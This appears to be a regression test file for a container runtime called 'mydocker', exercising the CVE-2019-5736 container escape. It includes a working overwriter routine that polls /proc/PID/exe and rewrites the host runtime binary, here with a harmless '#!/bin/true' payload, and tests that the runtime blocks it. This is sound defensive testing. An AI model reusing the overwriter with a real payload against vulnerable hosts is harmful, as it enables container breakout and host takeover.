// Overwriting the runtime through /proc/PID/exe (CVE-2019-5736): a container that gets hold of an executable
// of the host's, which was executed in it or is about to be, could open it for writing once it no longer
// runs.

import { assertEquals, assertMatch } from "@std/assert";
import { carelessly, makeAttack } from "./attacker.ts";
import { BIN, type Box, requires, type Running, test, until, words } from "../world/world.ts";
import { AT_FDCWD, O_RDONLY, O_WRONLY } from "../../ffi/file.ts";
import type { Cell, Label, Program } from "../../ffi/program.ts";

/** A descriptor's number, so that its path is known. */
const FOUND = 100;
const [EPERM, ETXTBSY] = [1, 26];
/** What an overwritten file begins with; to execute it does no harm. */
const PAYLOAD = "#!/bin/true\n";

/** Goes to `other` unless the text at `address`, of which `length` bytes were written, is this one. */
function compare(p: Program, address: number, length: Cell, text: string, other: Label): void {
  const bytes = new TextEncoder().encode(text);
  const padded = new Uint8Array((bytes.length + 7) & ~7);
  padded.set(bytes);
  const expected = p.bytes(padded);
  const equal = (a: Cell, b: Cell | number) => p.subtract(a, b, { negative: other, positive: other });
  equal(length, bytes.length);
  for (let at = 0; at < bytes.length; at += 8) equal({ address: address + at }, { address: expected + at });
}

/**
 * An executable that looks through these processes again and again until one executes `target`, and nothing
 * else; opens that, opens it once more for writing as soon as it is no longer executed, and writes to it.
 * Ends with 0, or the errno.
 */
function makeOverwriter(path: string, pids: number[], target: string): void {
  makeAttack(path, (p, call) => {
    const [fd, length, link] = [p.cell(), p.cell(), p.reserve(4096)];
    const [again, found, retry, refused] = [p.label(), p.label(), p.label(), p.label()];
    const [own, empty] = [p.string(`/proc/self/fd/${FOUND}`), new Uint8Array(8)];
    p.place(again);
    for (const pid of pids) {
      const [next, gone] = [p.label(), p.label()];
      call("openat", [AT_FDCWD, p.string(`/proc/${pid}/exe`), O_RDONLY, 0], { store: fd, negative: next });
      call("dup3", [fd, FOUND, 0]);
      call("close", [fd]);
      p.set({ address: link + ((target.length - 1) & ~7) }, { address: p.bytes(empty) });
      call("readlinkat", [AT_FDCWD, own, link, 4096], { store: length, negative: gone });
      compare(p, link, length, target, gone);
      p.goto(found);
      p.place(gone);
      call("close", [FOUND]);
      p.place(next);
    }
    p.goto(again);
    p.place(found);
    call("write", [1, p.string("found\n"), 6]);
    p.place(retry);
    call("openat", [AT_FDCWD, own, O_WRONLY, 0], { store: fd, negative: refused });
    call("write", [fd, p.string(PAYLOAD), PAYLOAD.length], { store: fd, negative: refused });
    call("exit_group", [0]);
    p.place(refused);
    p.subtract(fd, -ETXTBSY, { zero: retry });
    p.subtract(0, fd, { store: fd });
    call("exit_group", [fd]);
  });
}

/**
 * Executes what it finds as /evil in the directory that is its first argument: a runtime as the CVE found
 * them.
 */
function makeCarelessRuntime(path: string, root: string): void {
  makeAttack(path, (p, call) => {
    const inside = p.label();
    call("chroot", [p.string(root)], { negative: inside });
    call("chdir", [p.string("/")]);
    call("execve", [p.string("/evil"), p.strings(["/evil"]), p.strings([])]);
    // It was executed again, by a container that has no such directory.
    p.place(inside);
    call("ppoll", [0, 0, p.words([0, 300e6]), 0, 8]);
  });
}

const INSIDE = Array.from({ length: 60 }, (_, index) => index + 2);

test("CVE-2019-5736: a runtime that is executed in a container by /proc/self/exe is overwritten", async (box) => {
  const runtime = box.path("runtime");
  makeCarelessRuntime(runtime, `${box.dir}/careless`);
  makeOverwriter(box.path("overwriter"), INSIDE, runtime);
  const script = `printf '#!/proc/self/exe\\n' >"$1/evil" && chmod +x "$1/evil" && cp overwriter "$1/"
    chroot "$1" /overwriter & while kill -0 $! 2>/dev/null; do ./runtime; done; wait $!`;
  const { code, stdout } = await carelessly(box, script);
  assertEquals([code, stdout], [0, "found\n"]);
  assertMatch(Deno.readTextFileSync(runtime), new RegExp(`^${PAYLOAD}`));
});

/** What of mydocker is executed in a container before the command is. */
const PROGRAM = "/memfd:mydocker (deleted)";

test("CVE-2019-5736: no container executes what mydocker executed, in run and in exec", async (box) => {
  const refused = (path: string) => [126, "", `mydocker: exec: "${path}": permission denied\n`];
  const outcome = async (...args: string[]) => {
    const { code, stdout, stderr } = await box.$(args);
    return [code, stdout, stderr];
  };
  makeOverwriter(box.path("overwriter"), INSIDE, PROGRAM);
  const script =
    "ln -s /proc/self/exe /link; printf '#!/proc/self/exe\\n' >/script; chmod +x /script; exec /overwriter";
  const mount = ["-v", `${box.dir}/overwriter:/overwriter:ro`];
  await box.ok`run -d --name c1 ${mount} busybox sh -c ${script}`;
  await until("it looks", async () => (await box.ok`top c1`).includes("/overwriter"));
  for (const path of ["/proc/self/exe", "/link", "/script"]) {
    for (const flags of [[], ["-t"], ["--privileged"], ["-u", "1000"]]) {
      assertEquals((await outcome("exec", ...flags, "c1", path)).slice(0, 2), [126, ""], `${flags} ${path}`);
    }
    assertEquals(await outcome("exec", "c1", path), refused(path));
  }
  await box.ok`commit c1 evil`;
  assertEquals(await box.ok`logs c1`, "");
  await box.ok`rm -f c1`;
  for (const path of ["/proc/self/exe", "/link", "/script"]) {
    assertEquals(await outcome("run", "--rm", "evil", path), refused(path));
    assertEquals((await outcome("run", "--rm", "--init", "evil", path))[0], 126);
  }
});

test("CVE-2019-5736: who gets hold of what mydocker executed can't change it", async (box) => {
  await box.ok`run -d --name c1 busybox sleep 1000`;
  const [, keeper] = /^PPid:\t(\d+)$/m.exec(Deno.readTextFileSync(`/proc/${await box.pidOf("c1")}/status`))!;
  makeOverwriter(box.path("overwriter"), [Number(keeper)], PROGRAM);
  // As root of the host, since a container has no way to it.
  const overwriter = box.start`${box.path("overwriter")}`;
  await overwriter.expect("found");
  Deno.kill(Number(keeper), "SIGKILL");
  assertEquals((await overwriter.end()).code, EPERM);
  await box.ok`rm -f c1`;
});

/** A copy of mydocker that unpacks itself into the test's own directory: its path, and how to run it. */
function copyOfMydocker(box: Box) {
  const path = box.path("copy");
  Deno.copyFileSync(BIN, path);
  const env = { MYDOCKER_CACHE: box.path("cache") };
  return { path, env, run: (...args: string[]) => box.exec(words`${path} ${args}`, { env }) };
}

/** The executable that such a copy runs in: itself, or the deno that it has unpacked. */
function executableOf(box: Box, running: Running): Promise<string> {
  return until("it runs", () => {
    const path = Deno.readLinkSync(`/proc/${running.pid}/exe`);
    return path.startsWith(box.dir) && path;
  });
}

test("CVE-2019-5736: mydocker itself, or its deno, is executed in no container", async (box) => {
  const copy = copyOfMydocker(box);
  assertEquals((await copy.run("version")).code, 0);
  // A bridge would be for the copy to take down, which is overwritten in the end.
  const alone = ["--network", "none"];
  await using waiting = box.start(
    words`${copy.path} run -i --rm ${alone} --name waiting busybox cat`,
    copy,
  );
  const path = await executableOf(box, waiting);
  await box.pidOf("waiting");
  const before = Deno.statSync(path).size;
  makeOverwriter(box.path("overwriter"), [...INSIDE, waiting.pid], path);
  const mount = ["-v", `${box.dir}/overwriter:/overwriter:ro`];
  const watch = (name: string, ...flags: string[]) =>
    copy.run("run", "-d", ...alone, "--name", name, ...mount, ...flags, "busybox", "/overwriter");
  // With processes outside in sight, one of mydocker's is closed to it all the same.
  for (const [name, ...flags] of [["own"], ["seeing", "--pid", "host"]]) {
    await watch(name, ...flags);
    for (
      const args of [["exec", name, "true"], ["exec", "-t", name, "/proc/self/exe"], ["top", name], [
        "logs",
        name,
      ]]
    ) {
      await copy.run(...args);
    }
    for (
      const args of [["cp", `${name}:/etc/passwd`, "passwd"], ["diff", name], ["commit", name], [
        "stop",
        "-t0",
        name,
      ]]
    ) {
      assertEquals((await copy.run(...args)).code, 0, args.join(" "));
    }
    assertEquals((await copy.run("logs", name)).stdout, "");
    assertEquals((await copy.run("rm", name)).code, 0);
  }
  assertEquals(Deno.statSync(path).size, before);
  // It would find it and overwrite it, if it had the right.
  await watch("tracing", "--pid", "host", "--cap-add", "SYS_PTRACE");
  await until("it is found", async () => (await box.ok`logs tracing`) === "found");
  await box.ok`rm -f waiting`;
  assertEquals((await box.$`wait tracing`).stdout, "0\n");
  assertEquals(new TextDecoder().decode(Deno.readFileSync(path).subarray(0, PAYLOAD.length)), PAYLOAD);
  await box.ok`rm tracing`;
}, { ...await requires("built"), seconds: 90 });
